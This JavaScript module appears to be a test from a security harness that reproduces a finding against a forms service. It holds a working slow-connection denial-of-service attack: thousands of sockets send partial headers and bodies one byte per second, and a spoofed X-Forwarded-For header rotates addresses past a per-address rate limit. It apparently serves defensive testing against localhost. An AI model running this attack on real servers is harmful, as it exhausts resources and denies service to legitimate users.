import { setTimeout as sleep } from 'node:timers/promises';
import { attackerAddress, strangerAddress } from '../addresses.mjs';

const BODY_BYTES = 10_000;
/** An address may submit ten times a minute. */
const SUBMISSIONS_OF_ADDRESS = 10;

export default {
  finding: 2,
  title:
    '1,000 connections that send a header, and 2,005 that send a submission, one byte a second (300 and 600 in the short form)',
  seconds: [9, 4],

  async setUp(t) {
    const form = await t.ask('POST', t.forms, { name: 'Slow', fields: [{ name: 'message', type: 'text' }] });
    t.path = `${t.forms}/${form.id}/submissions`;
  },

  async attack(t) {
    const headers = t.size(1_000, 300);
    const bodies = t.size(2_005, 600);
    await t.hold(headers, { addressOf: (index) => attackerAddress(index % 100), write: beginHeader });
    const visitorOf = (index) => strangerAddress(Math.floor(index / SUBMISSIONS_OF_ADDRESS));
    const onData = (chunk) => t.count(`answered ${chunk.toString('latin1', 9, 12)}`);
    await t.hold(bodies, { addressOf: visitorOf, write: (socket) => beginBody(socket, t.path), onData });
    while (!t.isOver) {
      await sleep(1_000);
      for (const socket of t.sockets) if (socket.writable) socket.write('a');
    }
  },
};

function beginHeader(socket) {
  socket.write('GET /v1/content/x HTTP/1.1\r\nHost: localhost\r\nX-Slow: ');
}

function beginBody(socket, path) {
  const lines = [
    `POST ${path} HTTP/1.1`,
    'Host: localhost',
    'Content-Type: application/json',
    `Content-Length: ${BODY_BYTES}`,
    `X-Forwarded-For: ${socket.localAddress}`,
  ];
  socket.write(`${lines.join('\r\n')}\r\n\r\n{`);
}
